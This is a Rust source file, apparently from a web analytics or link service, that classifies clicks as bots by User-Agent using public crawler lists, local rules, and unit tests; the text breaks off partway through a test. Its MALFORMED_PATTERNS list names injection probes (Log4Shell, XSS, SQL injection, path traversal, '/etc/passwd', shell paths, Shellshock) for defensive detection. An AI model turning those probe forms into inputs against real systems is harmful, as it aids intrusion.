//! Bot detection from the User-Agent: why a click is not a human's.
//!
//! The patterns are two maintained public lists, committed as data in `shared/data/bots/` (source,
//! version and licence of each in its `SOURCES.md`; refreshed by `scripts/update_bot_patterns.sh`)
//! and embedded with `include_str!`, so nothing is read at run time:
//! - isbot's `patterns.json` (Unlicense): names plus generic signals (a URL or an e-mail address
//!   in the UA, a lone product token, "compatible;" with no engine…), matched case-insensitively as
//!   isbot does. The `regex` crate has no look-around: those few patterns are rewritten
//!   ([`LOOKAROUNDS`]).
//! - crawler-user-agents (MIT): about 1,500 named crawlers, matched case-sensitively as published;
//!   its `social-preview` tag marks link-preview fetchers.
//!
//! On top: our rules ([`LOCAL_BOT_PATTERNS`], [`MALFORMED_PATTERNS`], [`LINK_PREVIEWS`]), in-app
//! browsers kept human ([`IN_APP_BROWSERS`]), the few lone `Name/version` clients that are
//! browsers ([`NO_PLATFORM_EXCEPTIONS`]), the device model of an Android platform read as a
//! name, never as a bot word ([`without_device_model`]), and the few list entries we replace or
//! drop ([`REPLACED`], [`EXCLUDED`]), each with its reason.
//!
//! Everything is compiled once, on first use, into one [`Matcher`]: a browser costs a scan for
//! the patterns' literals plus a few anchored checks (about 0.3–0.5 µs); only User-Agents it
//! matches pay for the category checks.

use std::sync::{LazyLock, OnceLock};

use aho_corasick::AhoCorasick;
use memchr::memmem;
use regex::bytes::{Regex, RegexBuilder};
use regex_syntax::hir::{Hir, HirKind, Look};
use serde::{Deserialize, Serialize};

/// Why a click was counted as a bot (`botReason` on click events and in analytics).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum BotReason {
    /// The User-Agent matches a crawler, automation or HTTP-library pattern.
    UserAgent,
    /// A link-preview fetcher: chat and social apps fetch every link pasted into them.
    LinkPreview,
    /// A HEAD request: browsers never send one to follow a link.
    HeadRequest,
    /// No User-Agent, or a blank one: every browser sends one.
    MissingUserAgent,
    /// Control characters, injection probes (`${jndi:…}`) or a bare token that no browser sends.
    MalformedUserAgent,
}

impl BotReason {
    pub const ALL: [BotReason; 5] = [
        BotReason::UserAgent,
        BotReason::LinkPreview,
        BotReason::HeadRequest,
        BotReason::MissingUserAgent,
        BotReason::MalformedUserAgent,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            BotReason::UserAgent => "user_agent",
            BotReason::LinkPreview => "link_preview",
            BotReason::HeadRequest => "head_request",
            BotReason::MissingUserAgent => "missing_user_agent",
            BotReason::MalformedUserAgent => "malformed_user_agent",
        }
    }

    pub fn parse(name: &str) -> Option<BotReason> {
        Self::ALL.into_iter().find(|r| r.as_str() == name)
    }
}

impl std::fmt::Display for BotReason {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Why `ua` (trimmed, non-empty; `lower` is its ASCII-lower-cased bytes) is a bot, or `None`
/// for a human.
pub(crate) fn bot_reason(ua: &[u8], lower: &[u8]) -> Option<BotReason> {
    if has_control(lower) {
        return Some(BotReason::MalformedUserAgent);
    }
    // The fast path: the matcher's scans, which a browser passes.
    if !ANY.is_match(ua, lower) {
        return None;
    }
    let c = &*CATEGORIES;
    // Probes first: a `${jndi:…}` appended to a browser's UA is still an attack.
    if c.hostile.is_match(ua, lower) {
        return Some(BotReason::MalformedUserAgent);
    }
    if c.no_platform_exceptions.is_match(lower) {
        return None;
    }
    if let Some(masked) = std::str::from_utf8(ua).ok().and_then(without_device_model) {
        // The hit may be the phone's model name (`XBot Junior`, `M bot 51`): match again without it.
        if !ANY.is_match(masked.as_bytes(), masked.to_ascii_lowercase().as_bytes()) {
            return None;
        }
    }
    if c.link_preview.is_match(ua, lower) {
        return Some(BotReason::LinkPreview);
    }
    if c.in_app.is_match(lower) && !c.strong.is_match(lower) {
        // An app's embedded browser, opened by a person: broad list patterns hit app tokens
        // (WeChat's `Process/toolsmp` matches isbot's `tools`).
        return None;
    }
    if c.bare_token.is_match(lower) {
        return Some(BotReason::MalformedUserAgent);
    }
    Some(BotReason::UserAgent)
}

/// `ua` without the device model of its Android platform (the segments after `Android x` in
/// the first parenthesis: `(Linux; Android 8.1.0; XBot Junior Build/O11019)`), or `None` when it
/// has none. A model is a manufacturer's product name, whatever words it holds; a segment that
/// reads as a crawler's self-description (`compatible`, a URL, an e-mail) is kept.
fn without_device_model(ua: &str) -> Option<String> {
    let open = ua.find('(')?;
    let close = open + ua[open..].find(')')?;
    let segments: Vec<&str> = ua[open + 1..close].split(';').collect();
    let android = segments
        .iter()
        .position(|s| s.trim_start().starts_with("Android"))?;
    // The model is the first segment after `Android x` that is not `U`, a locale or `wv`; later
    // segments stay (`Pixel 2 Build/OPD3; Storebot-Google/1.0` is Google's crawler).
    let model = android
        + 1
        + segments[android + 1..]
            .iter()
            .position(|s| !is_platform_detail(s.trim()))?;
    let self_described = ["compatible", "http", "www.", "@", "+"]
        .iter()
        .any(|w| segments[model].to_ascii_lowercase().contains(w));
    if self_described {
        return None;
    }
    let mut kept = segments;
    kept.remove(model);
    Some(format!(
        "{}{}{}",
        &ua[..=open],
        kept.join(";"),
        &ua[close..]
    ))
}

/// `U` (the old encryption strength), `wv` (a WebView) or a locale (`en`, `en-us`, `zh_CN`).
fn is_platform_detail(s: &str) -> bool {
    let b = s.as_bytes();
    let lang = |l: &[u8]| l.len() == 2 && l.iter().all(u8::is_ascii_alphabetic);
    let locale = match b.len() {
        2 => lang(b),
        5 => lang(&b[..2]) && (b[2] == b'-' || b[2] == b'_') && lang(&b[3..]),
        _ => false,
    };
    s == "U" || s == "wv" || locale
}

/// Control characters (C0, DEL, and C1 as UTF-8): header injection or garbage, never a browser.
fn has_control(ua: &[u8]) -> bool {
    // A fold rather than `any`: no early exit, so it vectorises (browsers have none).
    ua.iter()
        .fold(false, |found, &b| found | (b < 0x20) | (b == 0x7f))
        || memchr::memchr(0xc2, ua).is_some()
            && ua
                .windows(2)
                .any(|w| w[0] == 0xc2 && (0x80..0xa0).contains(&w[1]))
}

const ISBOT_PATTERNS: &str = include_str!("../../../data/bots/isbot-patterns.json");
const CRAWLER_USER_AGENTS: &str = include_str!("../../../data/bots/crawler-user-agents.tsv");

/// An isbot pattern with look-around, which the `regex` crate (linear time, RE2-like) lacks:
/// none of `not_after` may end right before `core`, none of `not_before` start right after it.
/// [`not_preceded_by`] and [`not_followed_by`] spell that out exactly, without look-around.
struct Lookaround {
    original: &'static str,
    not_after: &'static [&'static str],
    core: &'static str,
    not_before: &'static [&'static str],
}

/// Every isbot pattern with look-around, rewritten by hand; `every_lookaround_is_rewritten` fails
/// when a refreshed list brings a new one.
const LOOKAROUNDS: &[Lookaround] = &[
    Lookaround {
        original: r"(?:^|[^g])news(?!sapphire)",
        not_after: &[],
        core: r"(?:^|[^g])news",
        not_before: &["sapphire"],
    },
    Lookaround {
        original: r"(?<! channel/|google/)google(?!(?:wv|app|/google| pixel))",
        not_after: &[" channel/", "google/"],
        core: "google",
        not_before: &["wv", "app", "/google", " pixel"],
    },
    Lookaround {
        original: r"(?<! cu)bots?(?:\b|_)",
        not_after: &[" cu"],
        core: r"bots?(?:\b|_)",
        not_before: &[],
    },
    Lookaround {
        original: r"(?<!cam)scan",
        not_after: &["cam"],
        core: "scan",
        not_before: &[],
    },
    Lookaround {
        original: r"(?<!lib)http",
        not_after: &["lib"],
        core: "http",
        not_before: &[],
    },
    Lookaround {
        original: r"java(?!;)",
        not_after: &[],
        core: "java",
        not_before: &[";"],
    },
];

/// isbot patterns we match differently: (pattern as published, ours, why). isbot's no-platform
/// rule (a lone `Name/1.0`: `Grafana/11.1.0`, `Prometheus/2.40.5`) applies as published; the
/// few real clients that send one are [`NO_PLATFORM_EXCEPTIONS`].
const REPLACED: &[(&str, &str, &str)] = &[(
    r"^[^ ]{50,}$",
    r"^[!-~]{50,}$",
    "a long ASCII blob (base64, hashes) is a bot; a run of non-ASCII text is not a shape we \
     know (visitor.rs keeps `éé…` human)",
)];

/// crawler-user-agents patterns we drop: (pattern as published, why). `exclusions_are_current`
/// fails when one is no longer in the data, so this never goes stale.
const EXCLUDED: &[(&str, &str)] = &[
    (
        "Sonic",
        "hits Slack's desktop app (`… Sonic Slack_SSB/4.4.2`)",
    ),
    (
        "Fluid",
        "a site-specific browser a person uses (`Fluid/0.9.6 Safari/528.16`)",
    ),
    (
        r"Code\/1\.",
        "VS Code's Electron shell, a desktop app a person uses",
    ),
    (
        r"Trae\/",
        "the Trae editor's Electron shell, a desktop app a person uses",
    ),
    (
        r"AP3A\.240617\.008",
        "an Android build id: every phone on that build matches",
    ),
    (
        "MetaIAB Facebook",
        "Facebook's in-app browser (IAB), opened by a person",
    ),
    (
        "Butterfly",
        "HTC Butterfly phones (`HTC Butterfly Build/JRO03C`)",
    ),
    (
        "Viber",
        "Viber's in-app and desktop browsers; its fetcher's bare `Viber` is in LINK_PREVIEWS",
    ),
];

/// Our additions, matched case-insensitively (written lower-case).
const LOCAL_BOT_PATTERNS: &[&str] = &[
    // The old hand list, whatever the lists do: HTTP libraries and headless browsers.
    "python-urllib|aiohttp|go-http-client|okhttp|java/|libwww-perl|node-fetch|axios|scrapy",
    "curl/|wget/|headlesschrome|phantomjs",
    // Fetchers and agents acting for someone (`kagi-fetcher`, `ChatGPT-User/1.0`).
    r"fetch|[a-z]-user/",
    // Health checks, benchmarks, uptime probes, webhooks.
    r"health|bench\b|monit\b|uptime|probe|webhook",
    // A web address: browsers carry none (isbot has `http` and `.com`).
    r"www\.",
    // Page renderers: screenshot, thumbnail and PDF services, a translator fetching for a reader.
    r"thumb|screenshot|screenie|websnapr|wkhtmlto|snapsearch|imgsizer|\.translate\b",
    // Page testers, load generators and headless runtimes: a test run, not a visitor.
    r"tester\b|debugbear|zombie\.js|jsdom|siege/|observatory/|nodemeter|preload\b",
    // Crawler words the lists lack: spelled apart or abbreviated (`B-l-i-t-z-B-O-T`, `crwlr`),
    // extractors, retrievers, examiners, scouts, classifiers, agents (`ips-agent`).
    r"b-o-t\b|crwlr|extractor|retrieval|examiner|\bscout\b|classification|-agent\b",
    // Old search engines' and services' crawlers no list names.
    r"grub-client|htdig/|sqworm|stackrambler|arachmo|heimdall|kimonolabs|localsearch|mappercmd",
    r"claude-web|seocompany|webmon\b|web services client|pix/1\.0 \(criteo",
    // Developer tools: package managers, container and build tools, language runtimes' clients.
    r"cpython/|kubectl/|gradle/|\(dart:io\)|reactornetty/|ureq/|^docker/|^gitlab/|libvlc/",
    r"link-resolver",
];

/// Link-preview fetchers besides crawler-user-agents' `social-preview` entries (lower-case,
/// matched case-insensitively).
const LINK_PREVIEWS: &[&str] = &[
    "facebookexternalhit|facebot|meta-externalagent",
    "slackbot|slack-imgproxy|twitterbot|^whatsapp|telegrambot|discordbot|^viber$",
    "linkedinbot|skypeuripreview|pinterestbot|^pinterest/0\\.|redditbot|vkshare",
    "embedly|iframely|metainspector|google-pagerenderer|snap url preview",
    "mastodon|cardyb|bluesky",
    // The generic words of the trade (`BingPreview`, `ClickUpLinkUnfurler`).
    "preview|unfurl",
];

/// Injection probes: no browser sends them (lower-case). Control characters are
/// [`has_control`]'s.
const MALFORMED_PATTERNS: &[&str] = &[
    // Log4Shell and template or shell substitution.
    r"\$\{|\$\(",
    r"<script|<\?(?:php|=)|<svg|<img|javascript:|\balert\(|onerror=|onload=",
    r"\bunion\b.{0,20}\bselect\b|\bselect\b.{1,80}\bfrom\b|information_schema|@@version",
    r"\bsleep\s*\(|\bbenchmark\s*\(|waitfor\s+delay|extractvalue\(|\bchar\(\d",
    r#"'\s*(?:or|and)\s+['\d]|"\s*(?:or|and)\s+["\d]|;\s*drop\s+(?:table|database)"#,
    // Path traversal, shells, Shellshock.
    r"\.\./|/etc/passwd|\bcmd\.exe\b|/bin/(?:ba)?sh\b|\(\)\s*\{",
];

/// A bare token: printable ASCII with no space, slash or parenthesis (`123`, `0xAbyssal…`).
/// Every browser sends at least `Name/version (platform)`.
const BARE_TOKEN: &str = r"^[!-'*-.0-~]+$";

/// Lone `Name/version` User-Agents that are browsers (lower-case, the whole UA): a browser
/// naming itself (`nook browser/1.0`, `B30_Dorado WAP-Browser/1.0.0`, old phones' WAP browsers).
/// Every other lone `Name/version` is a tool, a library or a script (isbot's no-platform rule).
const NO_PLATFORM_EXCEPTIONS: &str = r"^[\w .\-]*browser/v?\d+(?:\.\d+)*$";

/// Markers of in-app browsers: the embedded browser of a social or chat app, opened by a person
/// tapping a link (lower-case literals).
const IN_APP_BROWSERS: &[&str] = &[
    "instagram",
    "fban/",
    "fbav/",
    "fb_iab/",
    "metaiab",
    "musical_ly",
    "bytedancewebview",
    "trill_",
    "linkedinapp",
    "pinterest/ios",
    "pinterest/android",
    "snapchat/",
    " line/",
    "micromessenger/",
    "kakaotalk",
    "naver(inapp",
    // Browsers of TVs and set-top boxes (HbbTV, CE-HTML, NetTV, Opera TV's `OMI/`), whose
    // `CE-HTML/1.0;` and `Catcher` hit isbot's `\w+/1.0;` and `catch`.
    "hbbtv/",
    "ce-html/",
    "nettv/",
    " omi/",
    "smarttv",
    // Old phones' WAP browsers (MediaTek's MAUI, NetFront, J2ME's MIDP): lone tokens and `java`.
    "maui",
    "wap browser",
    "wap-browser",
    "netfront/",
    "profile/midp-",
    // Chinese mobile browsers: UC's own compact header and Sogou's (isbot's `sogou` means its
    // spider, which keeps `spider` in its UA and so is overruled by STRONG).
    "ucbrowser",
    "sogoumobilebrowser",
    "sogoumse",
];

/// Bot words that overrule an in-app marker (`wechatdevtools`), lower-case.
const STRONG: &str = r"bots?\b|bot[_/;-]|spider|crawl|devtools|headless|https?://|\+http";

/// Every bot pattern: the fast path.
static ANY: LazyLock<Matcher> = LazyLock::new(|| {
    let mut all: Vec<Pattern> = bot_patterns();
    all.extend(link_preview_patterns());
    all.extend(MALFORMED_PATTERNS.iter().map(|p| Pattern::insensitive(p)));
    all.push(Pattern::cased(BARE_TOKEN));
    Matcher::new(&all)
});

/// A pattern and whether it is matched case-insensitively (then written lower-case).
struct Pattern {
    regex: String,
    insensitive: bool,
}

impl Pattern {
    fn insensitive(p: &str) -> Pattern {
        Pattern {
            regex: p.to_owned(),
            insensitive: true,
        }
    }

    fn cased(p: &str) -> Pattern {
        Pattern {
            regex: p.to_owned(),
            insensitive: false,
        }
    }

    /// The pattern as the `regex` crate reads it.
    fn source(&self) -> String {
        match self.insensitive {
            true => format!("(?i:{})", self.regex),
            false => self.regex.clone(),
        }
    }
}

/// ~1,800 patterns in one regex make its lazy DFA thrash on varied traffic (its states multiply:
/// tens of µs per UA), so they are split. A literal that every match contains (lower-case) joins
/// one alternation of plain literals, whose DFA stays small; a hit is confirmed. Patterns anchored
/// at the start (or the end) form a regex that gives up after a few bytes. A browser costs these
/// scans and, almost always, no confirmation.
struct Matcher {
    /// All the literals: the fast check (the `regex` crate's DFA beats an Aho-Corasick scan).
    any_literal: Regex,
    /// The same literals, to tell which ones hit.
    literals: AhoCorasick,
    /// What a hit of literal `i` still needs, by the literal's index.
    confirm: Vec<Confirm>,
    /// The patterns that confirm a hit, compiled on their first hit (they are many and rare).
    regexes: Vec<(String, OnceLock<Regex>)>,
    /// The patterns without a literal: anchored ones (`^\d+\b`, `;\s\w+;$`), then any other.
    rest: Vec<Regex>,
}

enum Confirm {
    /// The literal is the whole pattern, matched case-insensitively: the hit is the match.
    Nothing,
    /// The literal is the whole pattern, matched case-sensitively (these bytes as written).
    Cased(Vec<u8>),
    /// The pattern itself, by its index in `regexes`.
    Regex(usize),
}

/// Where a pattern goes in a [`Matcher`].
enum Shape {
    Start,
    End,
    Other,
    Literals(Vec<(Vec<u8>, bool)>),
}

impl Matcher {
    fn new(patterns: &[Pattern]) -> Matcher {
        let (mut literals, mut confirm, mut regexes) = (vec![], vec![], vec![]);
        let mut rest: [Vec<String>; 3] = Default::default();
        for p in patterns {
            let needs = match shape(p) {
                Shape::Literals(needs) => needs,
                Shape::Start => {
                    rest[0].push(p.source());
                    continue;
                }
                Shape::End => {
                    rest[1].push(p.source());
                    continue;
                }
                Shape::Other => {
                    rest[2].push(p.source());
                    continue;
                }
            };
            let regex = needs.iter().any(|(_, whole)| !whole).then(|| {
                regexes.push((p.source(), OnceLock::new()));
                regexes.len() - 1
            });
            for (literal, _) in needs {
                confirm.push(match (regex, p.insensitive) {
                    (Some(i), _) => Confirm::Regex(i),
                    (None, true) => Confirm::Nothing,
                    (None, false) => Confirm::Cased(literal.clone()),
                });
                literals.push(literal.to_ascii_lowercase());
            }
        }
        let escaped: Vec<String> = literals.iter().map(|l| escape_bytes(l)).collect();
        Matcher {
            any_literal: compile(&escaped),
            literals: AhoCorasick::new(&literals).expect("bot literals build an automaton"),
            confirm,
            regexes,
            rest: rest
                .iter()
                .filter(|r| !r.is_empty())
                .map(|r| compile(r))
                .collect(),
        }
    }

    fn is_match(&self, ua: &[u8], lower: &[u8]) -> bool {
        self.rest.iter().any(|r| r.is_match(ua))
            || self.any_literal.is_match(lower) && self.confirmed(ua, lower)
    }

    /// Whether a literal hit in `lower` is a match of its pattern.
    fn confirmed(&self, ua: &[u8], lower: &[u8]) -> bool {
        self.literals.find_overlapping_iter(lower).any(|m| {
            match &self.confirm[m.pattern().as_usize()] {
                Confirm::Nothing => true,
                Confirm::Cased(bytes) => memmem::find(ua, bytes).is_some(),
                Confirm::Regex(i) => {
                    let (source, regex) = &self.regexes[*i];
                    regex
                        .get_or_init(|| compile(std::slice::from_ref(source)))
                        .is_match(ua)
                }
            }
        })
    }
}

/// `bytes` as a regex that matches exactly them (`\xNN` for all but ASCII letters and digits).
fn escape_bytes(bytes: &[u8]) -> String {
    bytes
        .iter()
        .map(|&b| match b.is_ascii_alphanumeric() {
            true => char::from(b).to_string(),
            false => format!("\\x{b:02x}"),
        })
        .collect()
}

/// Bytes browsers seldom send: a literal holding one is a good enough thing to look for.
const RARE_BYTES: &[u8] = b"|@'\"$<>{}\\`~^*[]!#%&=?";

/// Anchored, or with a literal worth looking for in each top-level alternative (with whether it
/// is the whole alternative), or neither.
fn shape(p: &Pattern) -> Shape {
    let parsed = regex_syntax::ParserBuilder::new()
        .unicode(false)
        .utf8(false)
        .build()
        .parse(&p.regex);
    let Ok(hir) = parsed else { return Shape::Other };
    if hir.properties().look_set_prefix().contains(Look::Start) {
        return Shape::Start;
    }
    let alternatives = match hir.kind() {
        HirKind::Alternation(alts) => alts.clone(),
        _ => vec![hir.clone()],
    };
    let needs: Option<Vec<(Vec<u8>, bool)>> = alternatives
        .iter()
        .map(|alt| {
            let mut found = vec![];
            required_literals(alt, &mut found);
            let literal = found
                .into_iter()
                .filter(|l| worth_a_scan(l))
                .max_by_key(Vec::len)?;
            Some((literal, matches!(alt.kind(), HirKind::Literal(_))))
        })
        .collect();
    match needs {
        Some(needs) => Shape::Literals(needs),
        None if hir.properties().look_set_suffix().contains(Look::End) => Shape::End,
        None => Shape::Other,
    }
}

/// Whether hits of `literal` are rare in browsers' UAs: three bytes or more, `()`, or a rare byte
/// (a short one like `;` would hit every browser and need a confirmation each time).
fn worth_a_scan(literal: &[u8]) -> bool {
    literal.len() >= 3 || literal == b"()" || literal.iter().any(|b| RARE_BYTES.contains(b))
}

/// Pushes the literals that every match of `hir` contains.
fn required_literals(hir: &Hir, found: &mut Vec<Vec<u8>>) {
    match hir.kind() {
        HirKind::Literal(l) => found.push(l.0.to_vec()),
        HirKind::Capture(c) => required_literals(&c.sub, found),
        HirKind::Repetition(r) if r.min >= 1 => required_literals(&r.sub, found),
        HirKind::Concat(subs) => subs.iter().for_each(|s| required_literals(s, found)),
        _ => {}
    }
}

/// The category checks, run only on what [`ANY`] matched (built on the first bot).
struct Categories {
    hostile: Matcher,
    no_platform_exceptions: Regex,
    link_preview: Matcher,
    in_app: Regex,
    strong: Regex,
    bare_token: Regex,
}

static CATEGORIES: LazyLock<Categories> = LazyLock::new(|| {
    let hostile: Vec<Pattern> = MALFORMED_PATTERNS
        .iter()
        .map(|p| Pattern::insensitive(p))
        .collect();
    let literals: Vec<String> = IN_APP_BROWSERS.iter().map(|l| regex::escape(l)).collect();
    Categories {
        hostile: Matcher::new(&hostile),
        no_platform_exceptions: compile(&[NO_PLATFORM_EXCEPTIONS.to_owned()]),
        link_preview: Matcher::new(&link_preview_patterns()),
        in_app: compile(&literals),
        strong: compile(&[STRONG.to_owned()]),
        bare_token: compile(&[BARE_TOKEN.to_owned()]),
    }
});

/// One alternation with ASCII-only classes (`(?-u)`): `\w` and `\b` stay cheap, as in isbot's
/// JavaScript. The size limits are raised for the ~1,800-pattern union.
fn compile(patterns: &[String]) -> Regex {
    let union: Vec<String> = patterns.iter().map(|p| format!("(?:{p})")).collect();
    RegexBuilder::new(&format!("(?-u){}", union.join("|")))
        .size_limit(64 << 20)
        .dfa_size_limit(16 << 20)
        .build()
        .unwrap_or_else(|e| panic!("bot patterns must compile: {e}"))
}

/// Every pattern that marks a bot, link previews and malformed aside.
fn bot_patterns() -> Vec<Pattern> {
    let mut out: Vec<Pattern> = isbot_patterns()
        .iter()
        .map(|p| Pattern::insensitive(p))
        .collect();
    out.extend(crawler_user_agents().map(|(p, _)| Pattern::cased(&p)));
    out.extend(LOCAL_BOT_PATTERNS.iter().map(|p| Pattern::insensitive(p)));
    out
}

fn link_preview_patterns() -> Vec<Pattern> {
    let mut out: Vec<Pattern> = LINK_PREVIEWS
        .iter()
        .map(|p| Pattern::insensitive(p))
        .collect();
    out.extend(
        crawler_user_agents()
            .filter(|(_, tags)| tags.split(',').any(|t| t == "social-preview"))
            .map(|(p, _)| Pattern::cased(&p)),
    );
    out
}

/// isbot's patterns, look-around rewritten and replacements applied.
fn isbot_patterns() -> Vec<String> {
    let list: Vec<String> =
        serde_json::from_str(ISBOT_PATTERNS).expect("isbot-patterns.json is a list of strings");
    list.into_iter()
        .map(|p| {
            if let Some(l) = LOOKAROUNDS.iter().find(|l| l.original == p) {
                return rewrite(l);
            }
            match REPLACED.iter().find(|(from, _, _)| *from == p) {
                Some((_, to, _)) => (*to).to_owned(),
                None => js_class_hyphens(&p),
            }
        })
        .collect()
}

/// crawler-user-agents' (pattern, comma-separated tags), exclusions dropped, short names made
/// whole tokens.
fn crawler_user_agents() -> impl Iterator<Item = (String, &'static str)> {
    CRAWLER_USER_AGENTS
        .lines()
        .filter_map(|line| line.split_once('\t'))
        .filter(|(p, _)| !EXCLUDED.iter().any(|(x, _)| x == p))
        .map(|(p, tags)| (whole_token(p), tags))
}

/// A short plain name (five characters or fewer: `RED\/`, `008\/`, `Yeti`) must start a word:
/// inside a longer token it is a coincidence (`WIRED/3.2`, `Opera Mini/4.4.39008/37`).
fn whole_token(p: &str) -> String {
    let plain = p.replace('\\', "");
    let short_name = plain.len() <= 5
        && plain.starts_with(|c: char| c.is_ascii_alphanumeric())
        && plain
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "/;.!- ".contains(c));
    match short_name {
        true => format!(r"\b{p}"),
        false => p.to_owned(),
    }
}

/// JavaScript reads a `-` right after a class escape inside `[…]` (`[\w\d-.]`) as a literal
/// hyphen; the `regex` crate rejects it, so it is escaped.
fn js_class_hyphens(p: &str) -> String {
    let (mut out, mut in_class, mut after_class_escape) = (String::new(), false, false);
    let mut chars = p.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                let e = chars.next().unwrap_or('\\');
                out.extend([c, e]);
                after_class_escape = in_class && "wdsWDS".contains(e);
                continue;
            }
            '-' if after_class_escape => out.push_str("\\-"),
            '[' | ']' => {
                in_class = c == '[';
                out.push(c);
            }
            _ => out.push(c),
        }
        after_class_escape = false;
    }
    out
}

fn rewrite(l: &Lookaround) -> String {
    let before = match l.not_after {
        [] => String::new(),
        lits => not_preceded_by(lits),
    };
    let after = match l.not_before {
        [] => String::new(),
        lits => not_followed_by(lits),
    };
    format!("{before}(?:{}){after}", l.core)
}

/// Matches what follows a position where none of `literals` starts: the end, a byte none starts
/// with, or a shared prefix and then the same question again.
fn not_followed_by(literals: &[&str]) -> String {
    let bytes: Vec<&[u8]> = literals.iter().map(|l| l.as_bytes()).collect();
    format!("(?:$|{})", branches(&bytes, false))
}

/// The mirror image: what precedes a position where none of `literals` ends.
fn not_preceded_by(literals: &[&str]) -> String {
    let reversed: Vec<Vec<u8>> = literals.iter().map(|l| l.bytes().rev().collect()).collect();
    let bytes: Vec<&[u8]> = reversed.iter().map(Vec::as_slice).collect();
    format!("(?:^|{})", branches(&bytes, true))
}

/// The alternatives after (or, `backwards`, before) a shared prefix, `rest` being the literals'
/// remaining bytes: a byte none continues with, or a byte some continue with and then the same
/// again; a byte that completes a literal leads nowhere.
fn branches(rest: &[&[u8]], backwards: bool) -> String {
    let mut firsts: Vec<u8> = rest.iter().map(|l| l[0]).collect();
    firsts.sort_unstable();
    firsts.dedup();
    let class: String = firsts.iter().map(|b| format!("\\x{b:02x}")).collect();
    let mut alts = vec![format!("[^{class}]")];
    for b in firsts {
        let tails: Vec<&[u8]> = rest.iter().filter(|l| l[0] == b).map(|l| &l[1..]).collect();
        if tails.iter().any(|t| t.is_empty()) {
            continue;
        }
        let edge = if backwards { "^" } else { "$" };
        let inner = format!("(?:{edge}|{})", branches(&tails, backwards));
        alts.push(if backwards {
            format!("{inner}\\x{b:02x}")
        } else {
            format!("\\x{b:02x}{inner}")
        });
    }
    alts.join("|")
}

#[cfg(test)]
mod tests {
    use super::*;
    use BotReason::*;

    fn reason(ua: &str) -> Option<BotReason> {
        bot_reason(ua.as_bytes(), &ua.as_bytes().to_ascii_lowercase())
    }

    fn check(cases: &[(&str, Option<BotReason>)]) {
        let wrong: Vec<String> = cases
            .iter()
            .filter(|(ua, want)| reason(ua) != *want)
            .map(|(ua, want)| format!("{ua:?}: got {:?}, want {want:?}", reason(ua)))
            .collect();
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    fn reason_names_round_trip() {
        for r in BotReason::ALL {
            assert_eq!(BotReason::parse(r.as_str()), Some(r));
            assert_eq!(serde_json::to_string(&r).unwrap(), format!("\"{r}\""));
        }
        assert_eq!(BotReason::parse("bot"), None);
    }

    #[test]
    fn browsers_are_human() {
        check(&[
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.99 Mobile Safari/537.36",
                None,
            ),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
                None,
            ),
            (
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:124.0) Gecko/20100101 Firefox/124.0",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
                None,
            ),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 OPR/108.0.0.0",
                None,
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/123.0.6312.52 Mobile/15E148 Safari/604.1",
                None,
            ),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
                None,
            ),
            (
                "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
                None,
            ),
            // A phone brand, a lone capitalised client, non-ASCII text.
            (
                "Mozilla/5.0 (Linux; Android 10; CUBOT_X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.85 Mobile Safari/537.36",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 Chrome/80.0 Mobile Safari/537.36",
                None,
            ),
            (&"é".repeat(64), None),
            (
                "PS4Application libhttp/1.000 (PS4) CoreMedia libhttp/6.72 (PlayStation 4)",
                None,
            ),
        ]);
    }

    #[test]
    fn lone_name_version_is_a_bot_unless_a_browser_names_itself() {
        let ua = Some(UserAgent);
        check(&[
            ("Grafana/11.1.0", ua),
            ("Prometheus/2.40.5", ua),
            ("Arachni/v1.5.1", ua),
            ("SomeCustomClient/1.0", ua),
            ("Matomo/4.15.1", ua),
            // The exceptions: a browser that names itself, whole UA.
            ("nook browser/1.0", None),
            ("B30_Dorado WAP-Browser/1.0.0", None),
            ("curl/8.4.0 browser/1.0", ua),
        ]);
    }

    #[test]
    fn device_models_are_names_not_bot_words() {
        check(&[
            (
                "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.101 Mobile Safari/537.36",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 7.0; M bot 51) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; U; Android 4.2.2; en-us; M bot 51 Build/JDQ39) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
                None,
            ),
            (
                "Mozilla/5.0 (Linux; Android 11; INDURAMA GOOGLE TV 4K Build/RTM9.241015.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/132.0.6834.163 Mobile Safari/537.36",
                None,
            ),
        ]);
        // Only the model is read as a name: a crawler elsewhere in the platform, or one that
